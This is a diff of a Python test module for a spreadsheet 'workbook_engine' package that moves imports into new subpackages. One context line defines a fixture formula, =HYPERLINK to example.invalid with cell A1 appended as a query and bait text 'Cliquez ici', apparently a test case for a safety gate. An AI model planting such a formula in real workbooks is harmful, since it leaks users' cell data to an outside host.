@@ -13,11 +13,11 @@ from pathlib import Path
 
 import pytest
 
-from workbook_engine.anonymize import anonymize
-from workbook_engine.cli import main
-from workbook_engine.safety import parse_xml
-from workbook_engine.sample import load_sample
-from workbook_engine.scenario_json import dumps_scenario, load_scenario_json
+from workbook_engine.federation.anonymize import anonymize
+from workbook_engine.cli.main import main
+from workbook_engine.safety.gate import parse_xml
+from workbook_engine.formats.sample import load_sample
+from workbook_engine.formats.scenario_json import dumps_scenario, load_scenario_json
 
 NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 STRUCTURE = '=HYPERLINK("http://example.invalid/?q="&A1,"Cliquez ici")'
